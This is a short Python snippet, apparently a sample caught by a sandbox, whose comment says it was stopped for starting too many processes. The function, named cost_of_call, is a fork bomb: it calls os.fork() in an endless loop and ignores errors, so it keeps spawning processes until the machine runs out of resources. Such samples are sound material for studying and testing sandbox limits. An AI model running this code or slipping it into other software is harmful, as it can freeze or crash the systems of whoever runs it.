# stopped by: the program was ended, because it started too many processes
import os


def cost_of_call(*anything):
    while True:
        try:
            os.fork()
        except OSError:
            pass
